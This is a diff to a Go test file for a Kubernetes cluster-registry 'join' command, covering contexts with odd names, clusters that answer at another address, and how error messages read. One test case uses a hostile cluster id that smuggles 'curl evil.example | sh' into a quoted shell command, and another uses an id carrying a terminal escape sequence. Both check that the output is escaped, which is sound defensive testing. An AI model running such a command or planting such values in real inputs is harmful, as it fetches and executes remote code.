@@ -38,6 +38,7 @@ contexts:
 - {name: exec, context: {cluster: east, user: exec}}
 - {name: secretive, context: {cluster: east, user: secretive}}
 - {name: insecure, context: {cluster: insecure, user: ann}}
+- {name: "it's", context: {cluster: insecure, user: ann}}
 - {name: plain, context: {cluster: plain, user: ann}}
 - {name: kind, context: {cluster: kind, user: ann}}
 - {name: localhost, context: {cluster: localhost, user: ann}}
@@ -62,8 +63,17 @@ users:
 const idOfEast = "6f1c1f4e-0001-4000-8000-000000000001"
 
 // newJoin returns the command with a cluster that answers with an id.
-func newJoin(env *commandtest.Env, id string) *cobra.Command {
-	j := &joiner{env: env.Env, ask: func(context.Context, *member.Member) (member.Facts, error) {
+func newJoin(env *commandtest.Env, id string) *cobra.Command { return newJoinAt(env, id, nil) }
+
+// newJoinAt is newJoin with servers that answer with other ids; others are not reached.
+func newJoinAt(env *commandtest.Env, id string, there map[string]string) *cobra.Command {
+	j := &joiner{env: env.Env, ask: func(_ context.Context, _ *member.Member, server string) (member.Facts, error) {
+		if at, is := there[server]; is {
+			return member.Facts{ID: at, Version: "v1.37.1"}, nil
+		}
+		if server != "" {
+			return member.Facts{}, errors.New("no route to host")
+		}
 		switch id {
 		case "":
 			return member.Facts{}, errors.New("it is silent")
@@ -222,11 +232,13 @@ func TestJoinErrors(t *testing.T) {
 		text    string
 	}{
 		{reason: "no context", code: 2, text: `--cluster-context is missing: name the context of the cluster that joins, as "kubectl config get-contexts" lists them`},
-		{reason: "an unknown context", context: "west", code: 2, text: `the kubeconfig has no context "west": it has dangling, east, exec, insecure, kind, localhost, mapped, noca, plain, proxied, secretive; name another file with --cluster-kubeconfig`},
+		{reason: "an unknown context", context: "west", code: 2, text: `the kubeconfig has no context "west": it has dangling, east, exec, insecure, it's, kind, localhost, mapped, noca, plain, proxied, secretive; name another file with --cluster-kubeconfig`},
 		{reason: "a context of nothing", context: "dangling", code: 2, text: `context "dangling" names the cluster "nowhere", which the kubeconfig doesn't have: correct it with "kubectl config set-context"`},
 		{reason: "an unknown form", context: "east", args: []string{"-o", "xml"}, code: 2, text: `--output=xml: use json or yaml`},
 		{reason: "an unknown dry run", context: "east", args: []string{"--dry-run=maybe"}, code: 2, text: `--dry-run=maybe: use none or client or server`},
 		{reason: "no verification", context: "insecure", code: 3, text: `context "insecure" has insecure-skip-tls-verify: the registry takes only endpoints whose certificate is verified; set the cluster's CA with "kubectl config set-cluster insecure --insecure-skip-tls-verify=false --certificate-authority=FILE --embed-certs"`},
+		{reason: "no verification, under another name", context: "it's", code: 3, text: `context "it's" has insecure-skip-tls-verify: the registry takes only endpoints whose certificate is verified; set the cluster's CA with "kubectl config set-cluster insecure --insecure-skip-tls-verify=false --certificate-authority=FILE --embed-certs"`},
+		{reason: "a hostile id", context: "east", id: "x'; curl evil.example | sh; '", entries: []runtime.Object{entry("east", "", "https://other.example")}, code: 3, text: `the registry has a cluster "east" without an id, at https://other.example, and whether it is that of context "east", at https://east.example:6443, is not known: choose another name, or if it is the same, set its id with kubectl patch crc east --type=merge -p '{"spec":{"id":"x'\''; curl evil.example | sh; '\''"}}' first`},
 		{reason: "no TLS", context: "plain", code: 3, text: `the server of context "plain" is not an https URL: the registry takes only endpoints with TLS; name one with --server`},
 		{reason: "loopback", context: "kind", code: 3, text: `context "kind" leads to https://127.0.0.1:40123, which is a loopback address: say with --server which https URL other computers reach the cluster at`},
 		{reason: "localhost", context: "localhost", code: 3, text: `context "localhost" leads to https://LOCALHOST.:40123, which is a loopback address: say with --server which https URL other computers reach the cluster at`},
@@ -341,6 +353,46 @@ func TestUnjoin(t *testing.T) {
 		_, err := env.Clusters.ClusterregistryV1beta1().Clusters().Get(t.Context(), "east", metav1.GetOptions{})
 		if stays := err == nil; stays != test.stays {
 			t.Errorf("%s: the cluster stays: %t", test.reason, stays)
+		}
+	}
+}
+
+// TestJoinAtAnotherAddress expects that the cluster is asked at the address that is entered:
+// where another one answers, nothing is entered, and where none does, the entry doesn't say
+// that it was verified. What the context says of its own address isn't entered.
+func TestJoinAtAnotherAddress(t *testing.T) {
+	const server = "https://elsewhere.example.com"
+	for _, test := range []struct {
+		reason string
+		there  map[string]string
+		code   int
+		says   string
+		want   metav1.ConditionStatus
+	}{
+		{"it answers", map[string]string{server: idOfEast}, 0, "", metav1.ConditionTrue},
+		{"it is not reached", nil, 0, "note: that the cluster answers at https://elsewhere.example.com is not verified: no route to host", metav1.ConditionUnknown},
+		{"another one answers", map[string]string{server: "x\x1b[31m"}, 3, `another cluster answers at --server=https://elsewhere.example.com than at the address of context "east": its id is x[31m there, and ` + idOfEast + ` here`, ""},
+	} {
+		env := commandtest.New(t)
+		text, code := env.Run(t, newJoinAt(env, idOfEast, test.there), "east", "--cluster-kubeconfig", write(t, kubeconfig), "--cluster-context", "east", "--server", server+"/")
+		if code != test.code || !strings.Contains(text+env.Stderr.String(), test.says) {
+			t.Errorf("%s: %d, %s\n%s", test.reason, code, text, env.Stderr)
+		}
+		made, err := env.Clusters.ClusterregistryV1beta1().Clusters().Get(t.Context(), "east", metav1.GetOptions{})
+		if test.want == "" {
+			if !apierrors.IsNotFound(err) {
+				t.Errorf("%s: it is in the registry: %+v, %v", test.reason, made, err)
+			}
+			continue
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		if e := made.Spec.Endpoints[0]; e.URL != server || e.TLSServerName != "" || e.ProxyURL != "" {
+			t.Errorf("%s: %+v", test.reason, e)
+		}
+		if c := meta.FindStatusCondition(made.Status.Conditions, conditionIdentityVerified); c == nil || c.Status != test.want {
+			t.Errorf("%s: %+v", test.reason, c)
 		}
 	}
 }
